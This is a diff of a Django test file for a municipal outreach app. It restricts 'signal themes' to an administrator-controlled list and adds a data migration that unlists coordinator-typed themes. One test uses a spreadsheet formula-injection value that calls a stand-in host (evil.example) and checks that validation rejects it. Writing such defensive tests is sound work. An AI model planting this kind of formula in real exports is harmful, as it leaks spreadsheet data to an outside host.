@@ -11,7 +11,6 @@ from outreach.services.signals import (
     signal_forward,
     signal_record,
     signal_set_aside,
-    signal_theme_add,
 )
 from tests.conftest import client_for
 
@@ -122,15 +121,65 @@ def test_setting_aside_needs_a_reason(world):
     assert response.status_code == 400 and "note" in response.json()
 
 
-def test_coordinator_extends_the_theme_list_for_their_municipality_only(world):
+def test_the_team_chooses_from_the_list_of_its_municipality_and_adds_no_theme(world):
+    # Given the administrator's list: the shared themes, one of this municipality, one of
+    # another municipality, and one taken off the list
+    from outreach.models import Municipality
+
     municipality = world.household.team.municipality
-    signal_theme_add(municipality=municipality, name="Vervoer", created_by=world.coordinator)
-    with pytest.raises(ValidationError):
-        signal_theme_add(municipality=municipality, name="vervoer", created_by=world.coordinator)
-    with pytest.raises(ValidationError):
-        signal_theme_add(municipality=municipality, name="Schulden", created_by=world.coordinator)
-    names = [t["name"] for t in client_for(world.peer).get("/api/v1/signal-themes/").json()]
+    SignalTheme.objects.create(name="Vervoer", municipality=municipality)
+    elsewhere = Municipality.objects.create(code="GM0363", name="Amsterdam")
+    SignalTheme.objects.create(name="Grachten", municipality=elsewhere)
+    SignalTheme.objects.create(name="Niet nagekeken", municipality=municipality, listed=False)
+    client = client_for(world.coordinator)
+    # When the coordinator reads the list, then it holds the shared and their own themes
+    names = [t["name"] for t in client.get("/api/v1/signal-themes/").json()]
     assert "Vervoer" in names and "Schulden" in names
+    assert "Grachten" not in names and "Niet nagekeken" not in names
+    # And nobody adds a theme through the API
+    response = client.post("/api/v1/signal-themes/", {"name": "Eigen tekst"}, format="json")
+    assert response.status_code == 405
+    assert not SignalTheme.objects.filter(name="Eigen tekst").exists()
+
+
+def test_a_theme_not_on_the_list_cannot_be_chosen(world):
+    theme = SignalTheme.objects.create(
+        name="Niet nagekeken", municipality=world.household.team.municipality, listed=False
+    )
+    with pytest.raises(ValidationError):
+        signal_record(team=world.household.team, theme=theme, neighbourhood_code="BU16740101",
+                      description="Een behoefte", households_concerned=3,
+                      recorded_by=world.coordinator)  # fmt: skip
+
+
+def test_a_theme_name_cannot_start_like_a_formula(db):
+    with pytest.raises(ValidationError):
+        SignalTheme(name='=HYPERLINK("https://evil.example/?"&A1,"x12")').full_clean()
+
+
+def test_the_data_migration_takes_themes_typed_by_coordinators_off_the_list(world):
+    # Given a theme a coordinator typed in before the list was the administrator's, and a
+    # legacy name that starts like a formula
+    import importlib
+
+    from django.apps import apps
+
+    typed = SignalTheme.objects.create(name="Fam. Jansen Kade 12 ontruiming",
+                                       municipality=world.household.team.municipality,
+                                       created_by=world.coordinator)  # fmt: skip
+    formula = SignalTheme.objects.create(name="=1+1", municipality=None)
+    shared = SignalTheme.objects.get(name="Schulden")
+    # When the data migration runs
+    migration = importlib.import_module(
+        "outreach.migrations.0009_unlist_themes_typed_by_coordinators"
+    )
+    migration.unlist(apps, None)
+    # Then both are off the list and cannot be chosen; the starting list stays
+    for theme in (typed, formula):
+        theme.refresh_from_db()
+        assert not theme.listed and not theme.active
+    shared.refresh_from_db()
+    assert shared.listed and shared.active
 
 
 def test_the_history_names_who_recorded_and_who_forwarded(world):
